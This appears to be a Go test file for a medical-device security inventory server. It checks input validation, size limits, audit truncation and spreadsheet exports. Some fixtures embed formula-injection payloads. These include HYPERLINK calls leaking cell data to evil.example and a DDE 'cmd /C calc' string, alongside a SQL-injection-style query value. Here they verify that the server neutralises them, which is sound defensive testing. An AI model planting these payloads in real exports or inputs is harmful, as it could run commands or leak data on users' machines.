package http_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"medsec"
	mhttp "medsec/http"
	"medsec/sqlstore"
	"medsec/tabular"
)

// Tests of the input, export and audit-size rules of docs/SECURITY.md ("Input, exports and
// backups"), on both engines: security review F4, F11–F15 and row 36b.

// engines are the store engines these tests run on (PostgreSQL skips, saying why, when
// MEDSEC_TEST_POSTGRES_DSN is unset).
var engines = []string{"sqlite", "postgres"}

// request sends a request with a bearer token and returns the status, content type and body.
func (f *fixture) request(method, path, token, contentType string, body io.Reader) (int, string, []byte) {
	f.t.Helper()
	req, err := http.NewRequest(method, f.srv.URL+path, body)
	if err != nil {
		f.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		f.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		f.t.Fatalf("%s %s: %v", method, path, err)
	}
	return resp.StatusCode, resp.Header.Get("Content-Type"), b
}

// mustCreate POSTs a JSON body as admin and returns the new record's id.
func (f *fixture) mustCreate(path, body string) int64 {
	f.t.Helper()
	status, resp := f.do("POST", path, f.tokens[medsec.RoleAdmin], body)
	if status != http.StatusCreated {
		f.t.Fatalf("POST %s: %d %s", path, status, resp)
	}
	var v struct{ ID int64 }
	json.Unmarshal([]byte(resp), &v)
	return v.ID
}

// sheetCell is one cell of a CSV or XLSX download: its text, and whether a spreadsheet
// takes it as text whatever it starts with — in a CSV, an apostrophe in front (and Untext
// gives the text back); in an XLSX, a string cell under the text number format "@".
type sheetCell struct {
	text     string
	xlsx     bool
	textCell bool
}

// spreadsheetCells returns every cell of a CSV or XLSX download, and whether the XLSX
// holds a formula anywhere.
func spreadsheetCells(t *testing.T, contentType string, data []byte) (cells []sheetCell, formulas bool) {
	t.Helper()
	if strings.HasPrefix(contentType, "text/csv") {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("csv: %v", err)
		}
		for _, rec := range recs {
			for _, c := range rec {
				cells = append(cells, sheetCell{text: c, textCell: strings.HasPrefix(c, "'")})
			}
		}
		return cells, false
	}
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("xlsx: %v", err)
	}
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/worksheets/") {
			rc, _ := zf.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
				formulas = true
			}
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("xlsx: %v", err)
	}
	defer x.Close()
	for _, sh := range x.GetSheetList() {
		rows, err := x.GetRows(sh, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if v == "" {
					continue
				}
				name, _ := excelize.CoordinatesToCellName(c+1, r+1)
				typ, _ := x.GetCellType(sh, name)
				textCell := typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString
				if id, err := x.GetCellStyle(sh, name); err != nil {
					textCell = false
				} else if st, err := x.GetStyle(id); err != nil || st.NumFmt != 49 {
					textCell = false
				}
				cells = append(cells, sheetCell{text: v, xlsx: true, textCell: textCell})
			}
		}
	}
	return cells, formulas
}

// TestExportsNeutraliseFormulas puts formula-like values in every field a user (or an
// anonymous login attempt) can set, then fetches every spreadsheet the server produces —
// each GET API route without a path parameter, as CSV and as XLSX, and the UI's export
// links — and checks that no cell can run as a formula. A route that starts producing
// spreadsheets later is covered without changing this test.
func TestExportsNeutraliseFormulas(t *testing.T) {
	for _, engine := range engines {
		t.Run(engine, func(t *testing.T) {
			f := newFixtureOn(t, openEngine(t, engine))
			admin := f.tokens[medsec.RoleAdmin]
			site := fmt.Sprint(f.assetHQ.SiteID)
			vendor := f.mustCreate("/api/v1/vendors", `{"name": "=HYPERLINK(\"http://evil.example\",\"v\")"}`)
			dept := f.mustCreate("/api/v1/departments", `{"site_id": `+site+`, "name": "@SUM(1+1)*cmd|' /C calc'!A0"}`)
			person := f.mustCreate("/api/v1/people", `{"name": "+1+1 person"}`)
			hostile := medsec.Asset{SiteID: f.assetHQ.SiteID, DepartmentID: dept, VendorID: vendor, ResponsibleID: person,
				Name: `=HYPERLINK("http://evil.example/"&A1,"x")`, Kind: medsec.KindModality, Model: "-2+3", Location: "＝1+1",
				Notes: "\t=1+1", Class: medsec.ClassControl, Level: medsec.LevelModerate, IPs: []string{"10.1.40.9"}}
			body, _ := json.Marshal(hostile)
			f.mustCreate("/api/v1/assets", string(body))
			z1 := f.mustCreate("/api/v1/zones", `{"site_id": `+site+`, "name": "=cmd|' /C calc'!A0", "kind": "ot", "ranges": ["10.1.40.0/24"]}`)
			z2 := f.mustCreate("/api/v1/zones", `{"site_id": `+site+`, "name": "-zone", "kind": "intranet", "ranges": ["10.1.10.0/24"]}`)
			f.mustCreate("/api/v1/conduits", fmt.Sprintf(`{"site_id": %s, "name": "=HYPERLINK(\"http://evil.example\",\"fw\")", "from_zone_id": %d, "to_zone_id": %d, "protocol": "tcp", "ports": "8443", "app": "@app", "sources": ["10.1.40.7"], "controls": ["filtering"]}`, site, z1, z2))
			// An anonymous, failed login puts its user name in the audit trail.
			resp, err := http.PostForm(f.srv.URL+"/login", url.Values{"username": {`=HYPERLINK("http://evil.example/"&A1,"x")`}, "password": {"x"}})
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()

			check := func(name, contentType string, data []byte) int {
				t.Helper()
				cells, formulas := spreadsheetCells(t, contentType, data)
				if formulas {
					t.Errorf("%s: the workbook holds a formula", name)
				}
				quoted := 0
				for _, c := range cells {
					if !tabular.NeedsQuote(c.text) {
						continue
					}
					switch {
					case !c.textCell:
						t.Errorf("%s: cell %q can run as a formula", name, c.text)
					case c.xlsx && tabular.Untext(c.text) != c.text:
						// No hostile value starts with an apostrophe: one in an XLSX cell is
						// shown to the reader.
						t.Errorf("%s: XLSX cell %q shows an apostrophe; want the text exactly, typed as text", name, c.text)
					default:
						quoted++
					}
				}
				return quoted
			}
			produced := map[string]int{}
			for _, rt := range mhttp.APIRoutes() {
				if rt.Method != "GET" || strings.Contains(rt.Path, "{") {
					continue
				}
				for _, format := range []string{"csv", "xlsx"} {
					path := rt.Path + "?site=" + site + "&format=" + format
					status, ct, data := f.request("GET", path, admin, "", nil)
					if status != 200 || !(strings.HasPrefix(ct, "text/csv") || strings.Contains(ct, "spreadsheetml")) {
						continue
					}
					kind := "csv"
					if strings.Contains(ct, "spreadsheetml") {
						kind = "xlsx"
					}
					produced[rt.Path+" "+kind] = check(path, ct, data)
				}
			}
			for _, want := range []string{"/api/v1/assets/export csv", "/api/v1/assets/export xlsx", "/api/v1/audit/export csv",
				"/api/v1/gap/export csv", "/api/v1/gap/export xlsx", "/api/v1/zones/firewall csv"} {
				if n, ok := produced[want]; !ok {
					t.Errorf("%s: no spreadsheet (the walk found %v)", want, produced)
				} else if n == 0 {
					t.Errorf("%s: no hostile value reached the export, so the test proves nothing", want)
				}
			}
			c := f.session("u-admin")
			for _, path := range []string{"/assets/export", "/assets/export?format=xlsx", "/audit/export", "/compliance/export?format=csv",
				"/compliance/export?format=xlsx", "/zones/firewall?site=" + site + "&format=csv"} {
				resp, err := c.Get(f.srv.URL + path)
				if err != nil {
					t.Fatal(err)
				}
				data, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 200 {
					t.Errorf("UI %s: %d", path, resp.StatusCode)
					continue
				}
				if n := check("UI "+path, resp.Header.Get("Content-Type"), data); n == 0 {
					t.Errorf("UI %s: no hostile value reached the export", path)
				}
			}
		})
	}
}

// TestTextInputRefused sends the control characters and invalid UTF-8 of security review
// F13 in every kind of input — query parameters and their names, URL-encoded and multipart
// forms, the login form, JSON strings, keys and raw bytes — and wants a 422 naming the
// field, on both engines, with nothing stored.
func TestTextInputRefused(t *testing.T) {
	for _, engine := range engines {
		t.Run(engine, func(t *testing.T) {
			f := newFixtureOn(t, openEngine(t, engine))
			admin := f.tokens[medsec.RoleAdmin]
			site := fmt.Sprint(f.assetHQ.SiteID)
			asset := fmt.Sprint(f.assetHQ.ID)
			vendorsBefore := f.count("/api/v1/vendors")
			tests := []struct {
				name, method, path, contentType, body, field string
			}{
				{"query NUL", "GET", "/api/v1/assets?q=%00", "", "", "q"},
				{"kind NUL", "GET", "/api/v1/assets?kind=%00", "", "", "kind"},
				{"status NUL", "GET", "/api/v1/assets?status=%00", "", "", "status"},
				{"kind bad UTF-8", "GET", "/api/v1/assets?kind=%c3", "", "", "kind"},
				{"audit action", "GET", "/api/v1/audit?action=%00", "", "", "action"},
				{"audit user", "GET", "/api/v1/audit?user=%00", "", "", "user"},
				{"audit object type", "GET", "/api/v1/audit?object_type=%00", "", "", "object_type"},
				{"assessments catalog", "GET", "/api/v1/assessments?catalog=%00", "", "", "catalog"},
				{"export filter", "GET", "/api/v1/audit/export?user=a%01b", "", "", "user"},
				{"parameter name", "GET", "/api/v1/assets?a%00b=1", "", "", "a?b"},
				{"tab in query", "GET", "/api/v1/assets?q=a%09b", "", "", "q"},
				{"DEL", "GET", "/api/v1/assets?q=a%7Fb", "", "", "q"},
				{"C1 control", "GET", "/api/v1/assets?q=a%C2%85b", "", "", "q"},
				{"JSON NUL", "POST", "/api/v1/vendors", "application/json", `{"name": "a\u0000b"}`, "name"},
				{"JSON escape", "POST", "/api/v1/vendors", "application/json", `{"name": "nul\u0000vendor"}`, "name"},
				{"JSON raw bad UTF-8", "POST", "/api/v1/vendors", "application/json", "{\"name\": \"a\xffb\"}", "name"},
				{"JSON key", "POST", "/api/v1/vendors", "application/json", `{"na\u0000me": "x"}`, "na?me"},
				{"JSON tab in a name", "POST", "/api/v1/vendors", "application/json", `{"name": "a\tb"}`, "name"},
				{"JSON list entry", "POST", "/api/v1/zones", "application/json", `{"site_id": ` + site + `, "name": "z", "kind": "ot", "ranges": ["10.9.0.0/24", "10.9.1.0/24\u0000"]}`, "ranges[1]"},
				{"zone name", "POST", "/api/v1/zones", "application/json", `{"site_id": ` + site + `, "name": "z\u0000", "kind": "ot"}`, "name"},
				{"asset notes", "PUT", "/api/v1/assets/" + asset, "application/json", `{"site_id": ` + site + `, "name": "CT-01", "kind": "modality", "notes": "a\u0007b", "version": 1}`, "notes"},
				{"asset model", "PUT", "/api/v1/assets/" + asset, "application/json", `{"site_id": ` + site + `, "name": "CT-01", "kind": "modality", "model": "a\nb", "version": 1}`, "model"},
				{"raw upload name", "POST", "/api/v1/evidence?name=a%00b.txt", "text/plain", "evidence", "name"},
			}
			for _, tt := range tests {
				status, _, body := f.request(tt.method, tt.path, admin, tt.contentType, strings.NewReader(tt.body))
				if status != http.StatusUnprocessableEntity || !strings.Contains(string(body), `"field": "`+tt.field+`"`) {
					t.Errorf("%s: %s %s = %d %s; want 422 naming %q", tt.name, tt.method, tt.path, status, body, tt.field)
				}
			}
			// A multi-line field keeps its line breaks and tabs.
			status, _, body := f.request("PUT", "/api/v1/assets/"+asset, admin, "application/json",
				strings.NewReader(`{"site_id": `+site+`, "name": "CT-01", "kind": "modality", "notes": "line 1\r\n\tline 2", "version": 1}`))
			if status != 200 || !strings.Contains(string(body), `line 1\r\n\tline 2`) {
				t.Errorf("multi-line notes: %d %s", status, body)
			}

			// Multipart: a file name and a field value.
			var mp bytes.Buffer
			mw := multipart.NewWriter(&mp)
			fw, _ := mw.CreateFormFile("file", "ev\u0085il.txt")
			fw.Write([]byte("evidence"))
			mw.Close()
			status, _, body = f.request("POST", "/api/v1/evidence", admin, mw.FormDataContentType(), &mp)
			if status != 422 || !strings.Contains(string(body), `"field": "file"`) {
				t.Errorf("multipart file name: %d %s", status, body)
			}

			// The login form, anonymous: a 422 page, not a 500.
			resp, err := http.PostForm(f.srv.URL+"/login", url.Values{"username": {"a\x00b"}, "password": {"x"}})
			if err != nil {
				t.Fatal(err)
			}
			page, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 422 || !strings.Contains(string(page), "<td>User name</td>") {
				t.Errorf("login with NUL: %d", resp.StatusCode)
			}
			// A UI form of a logged-in user.
			c := f.session("u-admin")
			resp, err = c.PostForm(f.srv.URL+"/organisation/vendors", url.Values{"name": {"a\x00b"}})
			if err != nil {
				t.Fatal(err)
			}
			page, _ = io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 422 || !strings.Contains(string(page), "<td>Name</td>") {
				t.Errorf("UI form with NUL: %d %s", resp.StatusCode, page)
			}
			if n := f.count("/api/v1/vendors"); n != vendorsBefore {
				t.Errorf("vendors: %d after the refusals, want %d", n, vendorsBefore)
			}
		})
	}
}

// count returns the total of a list route, as admin.
func (f *fixture) count(path string) int {
	f.t.Helper()
	status, body := f.do("GET", path, f.tokens[medsec.RoleAdmin], "")
	if status != 200 {
		f.t.Fatalf("GET %s: %d %s", path, status, body)
	}
	var l struct{ Total int }
	json.Unmarshal([]byte(body), &l)
	return l.Total
}

// TestSizeLimits: list fields and page sizes have bounds, stated in the error; an asset
// with 9.5 million IP addresses is refused quickly; malformed filters are 422, not ignored.
func TestSizeLimits(t *testing.T) {
	for _, engine := range engines {
		t.Run(engine, func(t *testing.T) {
			f := newFixtureOn(t, openEngine(t, engine))
			admin := f.tokens[medsec.RoleAdmin]
			site := fmt.Sprint(f.assetHQ.SiteID)
			list := func(n int, format string) string {
				s := make([]string, n)
				for i := range s {
					s[i] = fmt.Sprintf(format, i/250, i%250)
				}
				b, _ := json.Marshal(s)
				return string(b)
			}
			tests := []struct {
				name, method, path, body, field, want string
			}{
				{"asset IPs", "POST", "/api/v1/assets", `{"site_id": ` + site + `, "name": "x", "kind": "other", "ips": ` + list(65, "10.0.%d.%d") + `}`, "ips", "at most 64"},
				{"asset MACs", "POST", "/api/v1/assets", `{"site_id": ` + site + `, "name": "x", "kind": "other", "macs": ` + list(65, "02:00:00:00:%02x:%02x") + `}`, "macs", "at most 64"},
				{"zone ranges", "POST", "/api/v1/zones", `{"site_id": ` + site + `, "name": "z", "kind": "ot", "ranges": ` + list(257, "10.%d.%d.0/24") + `}`, "ranges", "at most 256"},
				{"zone SSIDs", "POST", "/api/v1/zones", `{"site_id": ` + site + `, "name": "z", "kind": "ot", "ssids": ` + list(65, "wifi-%d-%d") + `}`, "ssids", "at most 64"},
				{"list limit too big", "GET", "/api/v1/assets?limit=1001", "", "limit", "between 1 and 1000"},
				{"list limit not a number", "GET", "/api/v1/audit?limit=abc", "", "limit", "between 1 and 1000"},
				{"negative offset", "GET", "/api/v1/assets?offset=-1", "", "offset", "0 or more"},
				{"site not a number", "GET", "/api/v1/assets?site=abc", "", "site", "whole number"},
				{"site injection", "GET", "/api/v1/assets?site=1%20OR%201=1", "", "site", "whole number"},
				{"bad date", "GET", "/api/v1/audit?since=yesterday", "", "since", "YYYY-MM-DD"},
				{"unknown sort", "GET", "/api/v1/assets?sort=name%20DESC", "", "sort", "unknown sort field"},
			}
			for _, tt := range tests {
				status, body := f.do(tt.method, tt.path, admin, tt.body)
				if status != 422 || !strings.Contains(body, `"field": "`+tt.field+`"`) || !strings.Contains(body, tt.want) {
					t.Errorf("%s: %d %.300s; want 422 on %s saying %q", tt.name, status, body, tt.field, tt.want)
				}
			}
			// Conduit whitelists.
			z1 := f.mustCreate("/api/v1/zones", `{"site_id": `+site+`, "name": "a", "kind": "ot", "ranges": ["10.1.0.0/16"]}`)
			z2 := f.mustCreate("/api/v1/zones", `{"site_id": `+site+`, "name": "b", "kind": "intranet", "ranges": ["10.2.0.0/16"]}`)
			status, body := f.do("POST", "/api/v1/conduits", admin, fmt.Sprintf(`{"site_id": %s, "name": "c", "from_zone_id": %d, "to_zone_id": %d, "protocol": "tcp", "sources": %s}`,
				site, z1, z2, list(257, "10.1.%d.%d")))
			if status != 422 || !strings.Contains(body, `"field": "sources"`) || !strings.Contains(body, "at most 256") {
				t.Errorf("conduit sources: %d %.300s", status, body)
			}
			// The UI says the same for its own filters.
			c := f.session("u-admin")
			resp, err := c.Get(f.srv.URL + "/assets?site=abc")
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != 422 {
				t.Errorf("UI /assets?site=abc: %d, want 422", resp.StatusCode)
			}

			// 9.5 million IP addresses (about 100 MB of JSON): refused after reading the first
			// 8 MiB, with nothing created.
			var big bytes.Buffer
			big.WriteString(`{"site_id": ` + site + `, "name": "x", "kind": "workstation", "ips": [`)
			for i := range 9_500_000 {
				if i > 0 {
					big.WriteByte(',')
				}
				big.WriteString(`"10.0.0.1"`)
			}
			big.WriteString("]}")
			before := f.count("/api/v1/assets")
			start := time.Now()
			status, _, b := f.request("POST", "/api/v1/assets", admin, "application/json", &big)
			took := time.Since(start)
			if status != 422 || !strings.Contains(string(b), `"field": "body"`) || !strings.Contains(string(b), "8 MiB") {
				t.Errorf("9.5 M IPs: %d %.300s", status, b)
			}
			if took > 10*time.Second {
				t.Errorf("9.5 M IPs refused after %v, want quickly", took)
			}
			t.Logf("9.5 M IPs (%d MB) refused in %v", 105, took)
			if n := f.count("/api/v1/assets"); n != before {
				t.Errorf("assets: %d, want %d", n, before)
			}
		})
	}
}

// TestAuditLargeEntry: an audit entry of several MB (written before list fields were
// bounded) does not make the audit pages large or slow: lists leave its values out and mark
// it truncated, and the entry's own page and API give it whole.
func TestAuditLargeEntry(t *testing.T) {
	for _, engine := range engines {
		t.Run(engine, func(t *testing.T) {
			f := newFixtureOn(t, openEngine(t, engine))
			ips := make([]string, 400_000)
			for i := range ips {
				ips[i] = fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255)
			}
			before, _ := json.Marshal(map[string]any{"name": "huge", "ips": ips})
			ctx := medsec.NewContextWithUser(context.Background(), medsec.SystemUser)
			e := &medsec.AuditEntry{Action: "asset.update", ObjectType: "asset", ObjectID: f.assetHQ.ID, SiteID: f.assetHQ.SiteID,
				Before: before, After: json.RawMessage(`{"name": "huge"}`)}
			if err := sqlstore.NewAuditService(f.db).RecordEvent(ctx, e); err != nil {
				t.Fatal(err)
			}
			if len(before) < 5<<20 {
				t.Fatalf("entry is only %d bytes", len(before))
			}
			auditor := f.tokens[medsec.RoleAuditor]
			start := time.Now()
			status, body := f.do("GET", "/api/v1/audit?limit=5", auditor, "")
			took := time.Since(start)
			if status != 200 || len(body) > 64<<10 || !strings.Contains(body, `"truncated": true`) || !strings.Contains(body, `"after": {`) {
				t.Errorf("list: %d, %d bytes, want a small page marking the entry truncated: %.500s", status, len(body), body)
			}
			t.Logf("list with a %d MB entry: %d bytes in %v", len(before)>>20, len(body), took)
			status, body = f.do("GET", fmt.Sprintf("/api/v1/audit/%d", e.ID), auditor, "")
			var got medsec.AuditEntry
			if status != 200 || json.Unmarshal([]byte(body), &got) != nil || len(got.Before) < len(before) || got.Truncated {
				t.Errorf("GET entry: %d, before %d bytes, want %d", status, len(got.Before), len(before))
			}
			if status, _ := f.do("GET", fmt.Sprintf("/api/v1/audit/%d", e.ID), f.tokens[medsec.RoleClinicalEngineer], ""); status != 403 {
				t.Errorf("clinical engineer reads the entry: %d", status)
			}
			c := f.session("u-auditor")
			for _, tt := range []struct {
				path    string
				maxSize int
				want    string
			}{{"/audit", 256 << 10, fmt.Sprintf(`href="/audit/%d"`, e.ID)}, {fmt.Sprintf("/audit/%d", e.ID), 64 << 20, "10.6.26.127"}} {
				resp, err := c.Get(f.srv.URL + tt.path)
				if err != nil {
					t.Fatal(err)
				}
				page, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 200 || len(page) > tt.maxSize || !strings.Contains(string(page), tt.want) {
					t.Errorf("UI %s: %d, %d bytes, want %q", tt.path, resp.StatusCode, len(page), tt.want)
				}
			}
		})
	}
}

// TestExportsWhole: the audit and asset exports return every row, past every cap the
// exports had (100 and 10,000 audit entries, 100,000 assets on SQLite).
func TestExportsWhole(t *testing.T) {
	sizes := map[string]int{"sqlite": 100_001, "postgres": 10_100}
	for _, engine := range engines {
		t.Run(engine, func(t *testing.T) {
			db := openEngine(t, engine)
			f := newFixtureOn(t, db)
			n := sizes[engine]
			rows := make([]medsec.AssetRow, n)
			for i := range rows {
				rows[i] = medsec.AssetRow{Line: i + 2, Site: "本院", Asset: medsec.Asset{Name: fmt.Sprintf("host-%06d", i), Kind: medsec.KindWorkstation,
					IPs: []string{fmt.Sprintf("10.%d.%d.%d", 100+i>>16, i>>8&255, i&255)}}}
			}
			ctx := medsec.NewContextWithUser(context.Background(), medsec.SystemUser)
			start := time.Now()
			if _, err := sqlstore.NewAssetService(db).ImportAssets(ctx, medsec.AssetImport{Source: "big.csv", Rows: rows}); err != nil {
				t.Fatal(err)
			}
			t.Logf("imported %d assets in %v", n, time.Since(start))
			auditor := f.tokens[medsec.RoleAuditor]
			wantAudit := f.count("/api/v1/audit?limit=1")
			wantAssets := f.count("/api/v1/assets?limit=1")
			if wantAudit <= n || wantAssets != n+2 {
				t.Fatalf("totals: audit %d, assets %d", wantAudit, wantAssets)
			}
			for _, tt := range []struct {
				path string
				want int
			}{{"/api/v1/audit/export", wantAudit}, {"/api/v1/assets/export", wantAssets}, {"/api/v1/assets/export?format=xlsx", wantAssets}} {
				start := time.Now()
				status, ct, data := f.request("GET", tt.path, auditor, "", nil)
				if status != 200 {
					t.Fatalf("%s: %d %.300s", tt.path, status, data)
				}
				var got int
				if strings.HasPrefix(ct, "text/csv") {
					recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
					if err != nil {
						t.Fatalf("%s: %v", tt.path, err)
					}
					got = len(recs) - 1
				} else {
					x, err := excelize.OpenReader(bytes.NewReader(data))
					if err != nil {
						t.Fatal(err)
					}
					rs, err := x.Rows("Assets")
					if err != nil {
						t.Fatal(err)
					}
					for rs.Next() {
						got++
					}
					rs.Close()
					x.Close()
					got-- // the header
				}
				if got != tt.want {
					t.Errorf("%s: %d rows, want %d", tt.path, got, tt.want)
				}
				t.Logf("%s: %d rows, %d bytes in %v", tt.path, got, len(data), time.Since(start))
			}
		})
	}
}

// TestOpenAPIStatesBounds: the OpenAPI document states every bound the server enforces,
// for routes added later too: each limit parameter's maximum is medsec.MaxPageSize, each
// call that takes input lists its 422, and the list fields carry their maxItems.
func TestOpenAPIStatesBounds(t *testing.T) {
	var doc struct {
		Paths      map[string]map[string]json.RawMessage
		Components struct {
			Schemas map[string]struct {
				Properties map[string]struct {
					MaxItems  int `json:"maxItems"`
					MaxLength int `json:"maxLength"`
				}
			}
		}
	}
	if err := json.Unmarshal(mhttp.OpenAPIDocument(), &doc); err != nil {
		t.Fatal(err)
	}
	for path, ops := range doc.Paths {
		for method, raw := range ops {
			var op struct {
				Parameters []struct {
					Name, In string
					Schema   struct{ Minimum, Maximum *int }
				}
				RequestBody json.RawMessage `json:"requestBody"`
				Responses   map[string]json.RawMessage
			}
			if json.Unmarshal(raw, &op) != nil || op.Responses == nil {
				continue
			}
			input := op.RequestBody != nil
			for _, p := range op.Parameters {
				if p.In != "query" {
					continue
				}
				input = true
				if p.Name == "limit" && (p.Schema.Maximum == nil || *p.Schema.Maximum != medsec.MaxPageSize || p.Schema.Minimum == nil || *p.Schema.Minimum != 1) {
					t.Errorf("%s %s: limit does not state 1 to %d", method, path, medsec.MaxPageSize)
				}
				if p.Name == "offset" && p.Schema.Minimum == nil {
					t.Errorf("%s %s: offset has no minimum", method, path)
				}
			}
			if _, ok := op.Responses["422"]; input && !ok {
				t.Errorf("%s %s takes input but lists no 422", method, path)
			}
		}
	}
	for _, tt := range []struct {
		schema, prop string
		want         int
	}{
		{"Asset", "ips", medsec.MaxAssetAddresses}, {"Asset", "macs", medsec.MaxAssetAddresses}, {"Asset", "ae_titles", medsec.MaxAssetAddresses},
		{"Zone", "ranges", medsec.MaxZoneRanges}, {"Zone", "vlans", medsec.MaxZoneVLANs}, {"Zone", "ssids", medsec.MaxZoneSSIDs},
		{"Conduit", "sources", medsec.MaxConduitAddresses}, {"Conduit", "destinations", medsec.MaxConduitAddresses},
		{"Assessment", "links", medsec.MaxAssessmentLinks}, {"Assessment", "evidence", medsec.MaxEvidenceItems}, {"User", "site_ids", medsec.MaxListItems},
		{"Webhook", "kinds", medsec.MaxListItems}, {"CRLReview", "reasons", medsec.MaxListItems}, {"CRLReview", "actions", medsec.MaxListItems},
	} {
		if got := doc.Components.Schemas[tt.schema].Properties[tt.prop].MaxItems; got != tt.want {
			t.Errorf("%s.%s maxItems = %d, want %d", tt.schema, tt.prop, got, tt.want)
		}
	} // Every string property of a record that is written has its maxLength (read-only ones,
	// formatted values and enumerations excepted), and the bounds are the server's.
	readOnly := map[string]bool{"created_at": true, "updated_at": true, "retired_at": true, "site_name": true, "department_name": true,
		"vendor_name": true, "responsible_name": true, "asset_name": true, "from_zone_name": true, "to_zone_name": true,
		"assessor": true, "assessed_on": true, "next_review": true, "end_of_support": true, "date": true}
	for _, schema := range []string{"Asset", "Assessment", "Evidence", "Zone", "Conduit", "Site", "Department", "Person", "Vendor", "Webhook", "NotifySettings", "NotifyPrefs", "CRLReview"} {
		var props map[string]struct {
			Type      string
			Enum      []string
			Format    string
			MaxLength int `json:"maxLength"`
		}
		var raw struct {
			Components struct {
				Schemas map[string]struct{ Properties json.RawMessage }
			}
		}
		json.Unmarshal(mhttp.OpenAPIDocument(), &raw)
		if err := json.Unmarshal(raw.Components.Schemas[schema].Properties, &props); err != nil {
			t.Fatalf("%s: %v", schema, err)
		}
		for name, p := range props {
			if p.Type != "string" || len(p.Enum) > 0 || p.Format != "" || readOnly[name] || name == "sha256" {
				continue
			}
			if p.MaxLength == 0 {
				t.Errorf("%s.%s states no maxLength", schema, name)
			}
		}
	}
	for _, tt := range []struct {
		schema, prop string
		want         int
	}{
		{"Asset", "name", medsec.MaxNameLength}, {"Asset", "model", medsec.MaxLineLength}, {"Asset", "notes", medsec.MaxTextLength},
		{"Zone", "name", medsec.MaxNameLength}, {"Conduit", "ports", medsec.MaxConduitPorts}, {"Webhook", "url", medsec.MaxLinkLength},
		{"Evidence", "name", medsec.MaxLineLength}, {"Assessment", "notes", medsec.MaxTextLength},
	} {
		if got := doc.Components.Schemas[tt.schema].Properties[tt.prop].MaxLength; got != tt.want {
			t.Errorf("%s.%s maxLength = %d, want %d", tt.schema, tt.prop, got, tt.want)
		}
	}
}

// TestStringLimits: every text field and list of a record has a bound (security retest
// N4: a link of 7 million characters, 1000 links of 7000 and asset fields of 100,000
// characters were stored). Each over-long value is 422 naming the field and the bound, and
// nothing is stored.
func TestStringLimits(t *testing.T) {
	for _, engine := range engines {
		t.Run(engine, func(t *testing.T) {
			f := newFixtureOn(t, openEngine(t, engine))
			admin := f.tokens[medsec.RoleAdmin]
			site := fmt.Sprint(f.assetHQ.SiteID)
			asset := fmt.Sprint(f.assetHQ.ID)
			long := func(n int) string { return strings.Repeat("x", n) }
			links := func(n, size int) string {
				s := make([]string, n)
				for i := range s {
					s[i] = "https://example.org/" + long(size-20)
				}
				b, _ := json.Marshal(s)
				return string(b)
			}
			z1 := f.mustCreate("/api/v1/zones", `{"site_id": `+site+`, "name": "a", "kind": "ot", "ranges": ["10.1.0.0/16"]}`)
			z2 := f.mustCreate("/api/v1/zones", `{"site_id": `+site+`, "name": "b", "kind": "intranet", "ranges": ["10.2.0.0/16"]}`)
			assetBody := func(field string, n int) string {
				return fmt.Sprintf(`{"site_id": %s, "name": "x", "kind": "other", %q: %q}`, site, field, long(n))
			}
			assessment := func(extra string) string {
				return `{"catalog_id": "tw-mohw-medical-baseline", "control_id": "tw-si-1.h", "asset_id": ` + asset + `, "status": "partial", ` + extra + `}`
			}
			sha := strings.Repeat("ab", 32)
			evidence := func(n int, name string) string {
				s := make([]string, n)
				for i := range s {
					s[i] = fmt.Sprintf(`{"sha256": %q, "name": %q}`, sha, name)
				}
				return `"evidence": [` + strings.Join(s, ",") + `]`
			}
			tests := []struct {
				name, method, path, body, list, field, want string
			}{
				{"one link of 7 M", "POST", "/api/v1/assessments", assessment(`"links": ` + links(1, 7_000_000)), "/api/v1/assessments", "links", "longer than 2048 characters"},
				{"link of 2049", "POST", "/api/v1/assessments", assessment(`"links": ` + links(1, 2049)), "/api/v1/assessments", "links", "longer than 2048 characters"},
				{"51 links", "POST", "/api/v1/assessments", assessment(`"links": ` + links(51, 100)), "/api/v1/assessments", "links", "at most 50"},
				{"evidence name", "POST", "/api/v1/assessments", assessment(evidence(1, long(100_000))), "/api/v1/assessments", "evidence", "longer than 500 characters"},
				{"101 evidence", "POST", "/api/v1/assessments", assessment(evidence(101, "a.txt")), "/api/v1/assessments", "evidence", "at most 100"},
				{"assessment notes", "POST", "/api/v1/assessments", assessment(`"notes": "` + long(4001) + `"`), "/api/v1/assessments", "notes", "longer than 4000 characters"},
				{"asset name", "POST", "/api/v1/assets", assetBody("name", 201), "/api/v1/assets", "name", "longer than 200 characters"},
				{"asset model", "POST", "/api/v1/assets", assetBody("model", 100_000), "/api/v1/assets", "model", "longer than 500 characters"},
				{"asset serial", "POST", "/api/v1/assets", assetBody("serial", 501), "/api/v1/assets", "serial", "longer than 500 characters"},
				{"asset software", "POST", "/api/v1/assets", assetBody("software_version", 501), "/api/v1/assets", "software_version", "longer than 500 characters"},
